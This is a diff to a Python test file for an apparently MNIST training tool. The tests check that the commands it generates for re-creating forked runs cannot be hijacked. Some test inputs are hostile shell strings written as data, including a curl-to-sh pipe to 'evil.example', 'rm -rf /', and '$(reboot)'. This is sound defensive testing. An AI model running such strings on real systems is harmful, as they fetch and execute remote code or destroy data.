@@ -186,13 +186,31 @@ def test_a_changed_run_has_a_command_of_its_own_and_a_word_of_warning() -> None:
 
 def test_a_fork_is_made_again_by_forking() -> None:
     fork = altered_run(FORKED, config=BASE.replace(dropout=0.5, epochs=9))
+    trunk, again = commands(compare([fork]))
+    assert again == f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"
+    words, train = trunk.split(": ", 1)
+    assert words == "# Where that run is not, train it first, and fork `last`"
+    assert to_config(parsed(train).get("flags")) == BASE.replace(epochs=3)
+
+
+def test_the_trunk_of_a_fork_of_a_fork_is_told_by_no_command() -> None:
+    earlier = Forked(4, 1, "20251231-000000000-y-ffffff", {"l2_lambda": "0.1"}, {"l2_lambda": "0"})
+    fork = altered_run(earlier, FORKED, config=BASE.replace(dropout=0.5, epochs=9))
     assert commands(compare([fork])) == [f"mnist-tui fork {PARENT} --epoch 2 --dropout 0.5 --epochs 9"]
+
+
+def test_what_a_stranger_says_of_a_trunk_makes_no_command() -> None:
+    fork = Forked(8, 2, PARENT, {"dropout": "0.5"}, {"dropout": "much\nrm -rf /"})
+    [line] = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
+    assert line.startswith("mnist-tui fork")
 
 
 @pytest.mark.parametrize("parent", ["x; curl evil.example | sh #", "$(reboot)", "`reboot`", "it's"])
 def test_a_parent_of_unknown_origin_cannot_bring_in_a_command_of_its_own(parent: str) -> None:
     fork = Forked(8, 2, parent, {"dropout": "0.5"}, {"dropout": "0"})
-    [line] = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
+    comment, line = commands(compare([altered_run(fork, config=BASE.replace(dropout=0.5))]))
+    assert comment.startswith("# ")
+    assert parent not in comment
     assert shlex.split(line)[:3] == ["mnist-tui", "fork", parent]
 
 
@@ -212,6 +230,6 @@ def test_a_fork_of_a_changed_run_needs_no_warning_as_its_parent_has_the_change()
 
 def test_a_fork_that_was_changed_itself_warns() -> None:
     change = Changed(9, 3, {"dropout": 0.1}, {"dropout": 0.5})
-    warning, command = commands(compare([altered_run(FORKED, change, config=BASE.replace(dropout=0.5))]))
+    warning, _, command = commands(compare([altered_run(FORKED, change, config=BASE.replace(dropout=0.5))]))
     assert "was changed by hand" in warning
     assert command.startswith(f"mnist-tui fork {PARENT} --epoch 2")
